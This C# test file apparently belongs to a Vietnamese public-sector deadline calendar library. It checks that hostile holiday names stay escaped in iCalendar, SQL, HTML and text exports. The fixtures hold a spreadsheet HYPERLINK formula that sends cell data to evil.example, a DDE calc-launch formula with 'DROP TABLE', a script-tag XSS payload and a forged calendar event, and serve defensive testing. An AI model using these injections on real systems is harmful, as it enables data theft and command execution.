using System.Text;
using System.Text.Json;
using System.Xml.Linq;
using Cchc.Core.Calendars;
using Cchc.Core.Deadlines;
using Cchc.Core.Deadlines.Times;
using Cchc.Core.Exchange.Calendars;
using Cchc.Core.Exchange.Reports;
using Cchc.Core.Exchange.Sql;
using Cchc.Core.Tests.Support;
using Cchc.Core.Text;

namespace Cchc.Core.Tests.Exchange;

/// <summary>Texts of a layer that break formats: formulas, quotes, line breaks, backslashes, letters of many marks. They come out whole and change nothing around them.</summary>
public sealed class HostileLayerTests
{
    private static readonly BilingualText[] Names =
    [
        new("Nghỉ phòng, chống; bão số 10 \\n \"ngập\" 😀😀😀😀 ắặẵẫằấẩ", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Closed\")"),
        new("dòng một\ndòng hai\r\nCăn cứ:\n- giả", "-2+3+cmd|' /C calc'!A0'); DROP TABLE x;--"),
        new("a" + new string('\u0301', 200) + " </text><script>alert(1)</script>", "BEGIN:VEVENT\r\nSUMMARY:forged"),
    ];

    private static readonly WorkingCalendar Calendar = WorkingCalendar.VietnamPublicSector.With(CalendarLayer.Of("x", [.. Names.Select((name, i) => new CalendarEdit.Add(new CalendarDay
    {
        Date = new LocalDate(2026, 9, 28).PlusDays(i),
        Kind = DayKind.LocalClosure,
        Name = name,
        Sources = [new LegalCitation(new LegalDocument { Id = "x", Kind = "Công văn", Number = "6337/UBND-KTN", Issuer = "UBND tỉnh; Quảng, Nam\\n" }, null)],
    }))]));

    private static readonly Deadline.Due Due = (Deadline.Due)new DeadlineCalculator(Calendar).Compute(new ProcessingTime.WorkingDays(3), Dates.Moment("2026-09-25T09:00"));

    [Fact]
    public void The_layer_of_the_shared_case_is_read_and_written()
    {
        using var file = File.OpenRead(SharedData.Case("calendar", "formula-injection.layer.json"));
        CheckEvents(WorkingCalendar.VietnamPublicSector.With(CalendarLayer.Load(file, "x")), 2);
    }

    [Fact]
    public void RFC_5545_no_line_is_longer_than_75_octets_and_no_text_makes_an_event() => CheckEvents(Calendar, 3);

    [Fact]
    public void SQL_has_the_texts_in_literals_only()
    {
        foreach (var dialect in Enum.GetValues<SqlDialect>())
        {
            using var output = new StringWriter();
            SqlCalendarWriter.Write(output, Calendar, dialect, new LocalDate(2026, 9, 28), new LocalDate(2026, 9, 30));
            var lines = output.ToString().Split('\n').Where(line => line.Contains("6337")).ToList();
            lines.Should().HaveCount(3);
            foreach (var line in lines)
            {
                // Outside the literals, in which a quote is doubled, there is none of the text.
                var bare = System.Text.RegularExpressions.Regex.Replace(line, "'(?:[^']|'')*'", "L");
                bare.Should().NotContainAny("DROP", "dòng", "HYPERLINK", "SUMMARY", "'");
            }

            output.ToString().Should().NotContain("\ndòng hai").And.NotContain("\r");
        }
    }

    [Fact]
    public void The_picture_and_the_page_are_markup_still()
    {
        foreach (var language in new[] { Language.Vietnamese, Language.English })
        {
            XDocument.Parse(DeadlineReport.Timeline(Due, Calendar, language)).Descendants().Should().NotContain(element => element.Name.LocalName == "script");
            var page = DeadlineReport.Of(Due, Calendar, language).ToHtml();
            page.Should().NotContain("<script").And.Contain(language == Language.Vietnamese ? "&lt;script&gt;" : "=HYPERLINK(&quot;");
            XDocument.Parse(page);
        }
    }

    [Fact]
    public void A_line_break_in_a_name_forges_no_paragraph_of_the_letter()
    {
        var lines = DeadlineReport.Of(Due, Calendar, Language.Vietnamese).ToText().Split('\n');
        lines.Count(line => line == "Căn cứ:").Should().Be(1);
        lines.Should().NotContain("- giả").And.Contain(line => line.Contains("dòng một dòng hai Căn cứ: - giả"));
    }

    [Fact]
    public void A_deadline_as_JSON_keeps_its_due_date_its_time_and_the_part_of_a_day()
    {
        Deadline deadline = Due;
        var root = JsonDocument.Parse(JsonSerializer.Serialize(deadline)).RootElement;
        root.GetProperty("type").GetString().Should().Be("due");
        root.GetProperty("Date").GetString().Should().Be($"{Due.Date:uuuu-MM-dd}");
        (root.GetProperty("Time").GetProperty("type").GetString(), root.GetProperty("Time").GetProperty("Value").GetDecimal()).Should().Be(("workingDays", 3m));
        JsonSerializer.Serialize(new DeadlineCalculator(Calendar).Compute(new ProcessingTime.NotStated("không"), Due.Received)).Should().Contain("\"Reason\"").And.Contain("undetermined");
        JsonSerializer.Serialize(DayPart.Parse("13:30-")).Should().Be("\"13:30-\"");
    }

    private static void CheckEvents(WorkingCalendar calendar, int count)
    {
        var text = ICalendarWriter.Write(calendar, new LocalDate(2026, 9, 28), new LocalDate(2026, 9, 30), Language.English) + ICalendarWriter.Write(calendar, new LocalDate(2026, 9, 28), new LocalDate(2026, 9, 30));
        text.Split("\r\n").Should().OnlyContain(line => Encoding.UTF8.GetByteCount(line) <= 75 && !line.Contains('\n') && !line.Contains('\r'));
        text.Split("\r\n").Count(line => line == "BEGIN:VEVENT").Should().Be(2 * count);
        text.Split("\r\n").Should().NotContain("SUMMARY:forged");
        var unfolded = text.Replace("\r\n ", string.Empty);
        foreach (var day in calendar.SpecialDays(new LocalDate(2026, 9, 28), new LocalDate(2026, 9, 30)))
        {
            unfolded.Should().Contain("SUMMARY:" + day.Name.Vi.Replace("\r", " ").Replace("\\", "\\\\").Replace(";", "\\;").Replace(",", "\\,").Replace("\n", "\\n"));
        }
    }
}
